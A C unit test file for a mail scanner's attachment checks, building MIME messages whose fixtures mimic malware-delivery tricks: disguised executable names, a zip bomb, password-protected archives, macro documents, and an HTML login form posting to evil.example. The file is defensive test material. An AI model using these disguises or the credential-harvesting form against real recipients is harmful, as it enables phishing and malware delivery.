/*
 * test_attachments.c - check_attachments on whole messages: each test
 * builds a MIME message with one attachment (a program, a script, a
 * zip written here, an OLE or OOXML document, HTML), parses it with the
 * real MIME module (so libmagic's sniffing and the zip reader are part
 * of the test) and compares the symbols.  Prints TAP.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/evp.h>

#include "tap.h"
#include "detect/checks.h"
#include "mime/message.h"
#include "scan/pipeline.h"
#include "scan/scan.h"
#include "util/arena.h"
#include "util/buf.h"

static struct buf msg, file;

static void
le16(struct buf *b, unsigned v)
{
	buf_addc(b, (char)(v & 0xff));
	buf_addc(b, (char)(v >> 8));
}

static void
le32(struct buf *b, uint32_t v)
{
	le16(b, v & 0xffff);
	le16(b, v >> 16);
}

/* A zip of stored entries (PKWARE APPNOTE 4.3); bit 0 = "encrypted". */
static void
zip(struct buf *b, const char *const *names, size_t n, bool encrypted)
{
	struct buf cd;
	uint32_t off[16];
	size_t i, len;

	buf_reset(b);
	buf_init(&cd, 1 << 16);
	for (i = 0; i < n; i++) {
		len = strlen(names[i]);
		off[i] = (uint32_t)b->len;
		le32(b, 0x04034b50);
		le16(b, 20);
		le16(b, encrypted ? 1 : 0);
		le16(b, 0);			/* stored */
		le32(b, 0);			/* time, date */
		le32(b, 0);			/* crc (unchecked here) */
		le32(b, 4);
		le32(b, 4);
		le16(b, (unsigned)len);
		le16(b, 0);
		buf_add(b, names[i], len);
		buf_add(b, "data", 4);
	}
	for (i = 0; i < n; i++) {
		len = strlen(names[i]);
		le32(&cd, 0x02014b50);
		le16(&cd, 20);
		le16(&cd, 20);
		le16(&cd, encrypted ? 1 : 0);
		le16(&cd, 0);
		le32(&cd, 0);
		le32(&cd, 0);
		le32(&cd, 4);
		le32(&cd, 4);
		le16(&cd, (unsigned)len);
		le16(&cd, 0);
		le16(&cd, 0);
		le16(&cd, 0);
		le16(&cd, 0);
		le32(&cd, 0);
		le32(&cd, off[i]);
		buf_add(&cd, names[i], len);
	}
	len = b->len;
	buf_add(b, cd.data, cd.len);
	le32(b, 0x06054b50);
	le16(b, 0);
	le16(b, 0);
	le16(b, (unsigned)n);
	le16(b, (unsigned)n);
	le32(b, (uint32_t)cd.len);
	le32(b, (uint32_t)len);
	le16(b, 0);
	buf_free(&cd);
}

/* A minimal Windows program: MZ header pointing at a PE header. */
static void
program(struct buf *b)
{
	static const unsigned char pe[] = {
		'P', 'E', 0, 0, 0x4c, 0x01, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		0, 0, 0, 0, 0xe0, 0, 0x02, 0x01,
	};
	unsigned char mz[0x40];

	buf_reset(b);
	memset(mz, 0, sizeof(mz));
	mz[0] = 'M';
	mz[1] = 'Z';
	mz[0x3c] = 0x40;
	buf_add(b, mz, sizeof(mz));
	buf_add(b, pe, sizeof(pe));
	while (b->len < 400)
		buf_addc(b, 0);
}

/* An OLE compound file whose directory names a VBA project. */
static void
ole_with_vba(struct buf *b)
{
	static const unsigned char magic[] = {
		0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1,
	};
	const char *s = "_VBA_PROJECT";

	buf_reset(b);
	buf_add(b, magic, sizeof(magic));
	while (b->len < 512)
		buf_addc(b, 0);
	for (; *s != '\0'; s++) {
		buf_addc(b, *s);
		buf_addc(b, 0);
	}
	while (b->len < 1024)
		buf_addc(b, 0);
}

/*
 * The message: a text part and one attachment, base64.  name_param is
 * the whole parameter ("filename=\"x\"" or an RFC 2231 form).
 */
static void
build(const char *text, const char *type, const char *name_param,
    const struct buf *content)
{
	unsigned char *b64;
	size_t i, n, len;

	n = 4 * ((content->len + 2) / 3) + 1;
	b64 = malloc(n);
	len = (size_t)EVP_EncodeBlock(b64, (const unsigned char *)content->data,
	    (int)content->len);
	buf_reset(&msg);
	buf_printf(&msg, "From: <sender@example.net>\nTo: <me@example.org>\n"
	    "Subject: test\nMIME-Version: 1.0\nContent-Type: multipart/mixed;"
	    " boundary=\"XX\"\n\n--XX\nContent-Type: text/plain; "
	    "charset=utf-8\n\n%s\n--XX\nContent-Type: %s\n"
	    "Content-Disposition: attachment; %s\n"
	    "Content-Transfer-Encoding: base64\n\n", text, type, name_param);
	for (i = 0; i < len; i += 76)
		buf_printf(&msg, "%.76s\n", b64 + i);
	buf_adds(&msg, "--XX--\n");
	free(b64);
}

/* Runs the check on the message built last; the symbols, ", "-joined. */
static char *
symbols(struct scan **sp)
{
	struct scan *s = scan_new(NULL, NULL);
	struct buf out;
	size_t i;
	unsigned k;
	char *r;

	s->msg = message_parse(s->arena, msg.data, msg.len, NULL);
	check_attachments(s->msg, s);
	buf_init(&out, 1 << 16);
	buf_adds(&out, "");
	for (i = 0; i < s->n_symbols; i++) {
		buf_printf(&out, "%s%s(", i ? " " : "", s->symbols[i].name);
		for (k = 0; k < s->symbols[i].nargs; k++)
			buf_printf(&out, "%s%s", k ? "|" : "",
			    s->symbols[i].args[k]);
		buf_addc(&out, ')');
	}
	r = arena_strdup(s->arena, out.data);
	buf_free(&out);
	*sp = s;
	return r;
}

static void
expect(const char *what, const char *want)
{
	struct scan *s;

	is_str(symbols(&s), want, "%s", what);
	scan_free(s);
}

static void
text_file(const char *s)
{
	buf_reset(&file);
	buf_adds(&file, s);
}

/* Makes file from a shell command's output (real archivers). */
static bool
from_tool(const char *cmd)
{
	char chunk[8192];
	size_t n;
	FILE *f;

	buf_reset(&file);
	if ((f = popen(cmd, "r")) == NULL)
		return false;
	while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
		buf_add(&file, chunk, n);
	return pclose(f) == 0 && file.len > 0;
}

/* Archives written by 7z and python3 (tests/unit/test_zipwalk.c walks
 * more of them); a temporary directory for the tools' files. */
static void
test_real_archives(void)
{
	static const char *const nested =
	    "python3 -c 'import zipfile as z, io, sys\n"
	    "i=io.BytesIO(); f=z.ZipFile(i,\"w\",z.ZIP_DEFLATED)\n"
	    "f.writestr(\"Rechnung.pdf.lnk\",\"x\"*300); f.close()\n"
	    "o=io.BytesIO(); g=z.ZipFile(o,\"w\",z.ZIP_DEFLATED)\n"
	    "g.writestr(\"Scan.zip\",i.getvalue()); g.close()\n"
	    "sys.stdout.buffer.write(o.getvalue())'";
	static const char *const bomb =
	    "python3 -c 'import zipfile as z, io, sys\n"
	    "o=io.BytesIO(); g=z.ZipFile(o,\"w\",z.ZIP_DEFLATED)\n"
	    "g.writestr(\"data.bin\",bytes(32<<20)); g.close()\n"
	    "sys.stdout.buffer.write(o.getvalue())'";
	char dir[] = "/tmp/test_attachments.XXXXXX", cmd[512];

	ok(from_tool(nested), "python3 wrote a zip in a zip");
	build("hi", "application/zip", "filename=\"Unterlagen.zip\"", &file);
	expect("a shortcut in a zip in a zip, named with its path",
	    "ATTACH_ARCHIVE_EXECUTABLE(Unterlagen.zip|"
	    "Scan.zip/Rechnung.pdf.lnk) "
	    "ATTACH_NESTED_ARCHIVE(Unterlagen.zip|Scan.zip)");
	ok(from_tool(bomb), "python3 wrote 32 MiB of zeros in a zip");
	build("hi", "application/zip", "filename=\"Daten.zip\"", &file);
	/* The packed size depends on zlib's version: compare the start. */
	{
		struct scan *s;
		const char *got = symbols(&s), *want = "ATTACH_ARCHIVE_BOMB("
		    "Daten.zip|Daten.zip: data.bin packs 33554432 bytes into ";

		ok(strncmp(got, want, strlen(want)) == 0,
		    "a zip bomb is a symbol: %s", got);
		scan_free(s);
	}
	if (mkdtemp(dir) == NULL) {
		ok(0, "mkdtemp");
		return;
	}
	snprintf(cmd, sizeof(cmd), "cd %s && printf 'MZ' > setup.exe && "
	    "7z a -bd -pgeheim x.7z setup.exe >/dev/null && cat x.7z; "
	    "rc=$?; rm -rf %s; exit $rc", dir, dir);
	ok(from_tool(cmd), "7z wrote an encrypted 7z");
	build("Anbei die Rechnung. Passwort: geheim", "application/x-7z-"
	    "compressed", "filename=\"Rechnung.7z\"", &file);
	expect("an encrypted 7z with its password in the text",
	    "ATTACH_ARCHIVE_EXECUTABLE(Rechnung.7z|setup.exe) "
	    "ATTACH_ENCRYPTED_ARCHIVE(Rechnung.7z) "
	    "ATTACH_ENCRYPTED_WITH_PASSWORD(Rechnung.7z|Passwort: geheim)");
}

int
main(void)
{
	static const char *const js[] = { "scan.pdf", "Rechnung.js" };
	static const char *const plain[] = { "a.txt", "b.pdf" };
	static const char *const docm[] = { "[Content_Types].xml",
	    "word/document.xml", "word/vbaProject.bin" };
	static const char *const docx[] = { "[Content_Types].xml",
	    "word/document.xml" };

	buf_init(&msg, 1 << 20);
	buf_init(&file, 1 << 20);

	program(&file);
	build("hi", "application/octet-stream",
	    "filename=\"Rechnung.pdf.exe\"", &file);
	expect("a program with a double extension",
	    "ATTACH_EXECUTABLE(Rechnung.pdf.exe|"
	    "application/vnd.microsoft.portable-executable) "
	    "ATTACH_DOUBLE_EXTENSION(Rechnung.pdf.exe|pdf|exe)");
	build("hi", "application/pdf", "filename=\"Rechnung.pdf\"", &file);
	expect("a program named .pdf is known by its content",
	    "ATTACH_EXECUTABLE(Rechnung.pdf|"
	    "application/vnd.microsoft.portable-executable)");
	text_file("just text, no program");
	build("hi", "application/octet-stream", "filename=\"run.exe. . \"",
	    &file);
	expect("trailing dots and spaces do not hide .exe",
	    "ATTACH_EXECUTABLE(run.exe. . |exe) "
	    "ATTACH_NAME_TRICK(run.exe. .[space])");
	build("hi", "application/octet-stream",
	    "filename*=UTF-8''Rechnung%E2%80%AEfdp.exe", &file);
	expect("a right-to-left override is shown",
	    "ATTACH_EXECUTABLE(Rechnung\xe2\x80\xae" "fdp.exe|exe) "
	    "ATTACH_NAME_TRICK(Rechnung[RLO]fdp.exe)");
	build("hi", "application/octet-stream",
	    "filename=\"invoice.pdf                              .vbs\"",
	    &file);
	expect("a name padded with spaces",
	    "ATTACH_SCRIPT(invoice.pdf                              .vbs|vbs) "
	    "ATTACH_DOUBLE_EXTENSION(invoice.pdf                              "
	    ".vbs|pdf|vbs) ATTACH_NAME_TRICK(invoice.pdf[30 spaces].vbs)");
	build("hi", "application/x-iso9660-image", "filename=\"Auftrag.iso\"",
	    &file);
	expect("a disk image", "ATTACH_DISK_IMAGE(Auftrag.iso)");
	text_file("<?xml version=\"1.0\"?><plist><dict></dict></plist>");
	build("hi", "application/x-apple-aspen-config",
	    "filename=\"Sicherheit.mobileconfig\"", &file);
	expect("an Apple configuration profile",
	    "ATTACH_CONFIG_PROFILE(Sicherheit.mobileconfig)");

	zip(&file, js, 2, false);
	build("hi", "application/zip", "filename=\"scan.zip\"", &file);
	expect("a zip with a script inside",
	    "ATTACH_ARCHIVE_EXECUTABLE(scan.zip|Rechnung.js)");
	zip(&file, plain, 2, false);
	build("hi", "application/zip", "filename=\"docs.zip\"", &file);
	expect("a zip of documents is fine", "");
	zip(&file, plain, 2, true);
	build("Anbei die Unterlagen.", "application/zip",
	    "filename=\"docs.zip\"", &file);
	expect("an encrypted zip", "ATTACH_ENCRYPTED_ARCHIVE(docs.zip)");
	build("Anbei die Rechnung. Das Passwort lautet: 4711.",
	    "application/zip", "filename=\"Rechnung.zip\"", &file);
	expect("an encrypted zip with the password in the text",
	    "ATTACH_ENCRYPTED_ARCHIVE(Rechnung.zip) "
	    "ATTACH_ENCRYPTED_WITH_PASSWORD(Rechnung.zip|Passwort: 4711)");
	zip(&file, plain, 2, false);
	build("Password: abc123", "application/zip", "filename=\"x.zip\"",
	    &file);
	expect("a password beside a plain zip says nothing", "");

	zip(&file, docm, 3, false);
	build("hi", "application/vnd.openxmlformats-officedocument."
	    "wordprocessingml.document", "filename=\"Bericht.docx\"", &file);
	expect("OOXML with vbaProject.bin", "ATTACH_MACRO(Bericht.docx)");
	zip(&file, docx, 2, false);
	build("hi", "application/vnd.openxmlformats-officedocument."
	    "wordprocessingml.document", "filename=\"Bericht.docx\"", &file);
	expect("OOXML without macros is fine", "");
	build("hi", "application/vnd.ms-word.document.macroEnabled.12",
	    "filename=\"Bericht.docm\"", &file);
	expect("a macro-enabled extension", "ATTACH_MACRO(Bericht.docm)");
	ole_with_vba(&file);
	build("hi", "application/msword", "filename=\"Rechnung.doc\"", &file);
	expect("OLE with a VBA project", "ATTACH_MACRO(Rechnung.doc)");

	text_file("<html><body><form action=\"https://evil.example/p\">"
	    "<input type=password></form></body></html>");
	build("hi", "text/html", "filename=\"login.html\"", &file);
	expect("an HTML attachment with a form",
	    "ATTACH_HTML_FORM(login.html)");
	text_file("<html><script>var b=atob('TVqQ');</script></html>");
	build("hi", "text/html", "filename=\"invoice.htm\"", &file);
	expect("an HTML attachment with a script",
	    "ATTACH_HTML_SCRIPT(invoice.htm)");
	text_file("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>"
	    "window.location='https://x.example'</script></svg>");
	build("hi", "image/svg+xml", "filename=\"logo.svg\"", &file);
	expect("an SVG with a script", "ATTACH_HTML_SCRIPT(logo.svg)");
	text_file("<html><body><p>Hello</p></body></html>");
	build("hi", "text/html", "filename=\"page.html\"", &file);
	expect("plain HTML is fine", "");

	text_file("%PDF-1.4\n1 0 obj\n<<>>\nendobj\n");
	build("hi", "application/pdf", "filename=\"Bericht 2024.pdf\"", &file);
	expect("a PDF is fine", "");
	build("hi", "application/pdf", "filename=\"Angebot.v2.pdf\"", &file);
	expect("two dots in a harmless name are fine", "");

	test_real_archives();

	buf_free(&msg);
	buf_free(&file);
	return tap_done();
}
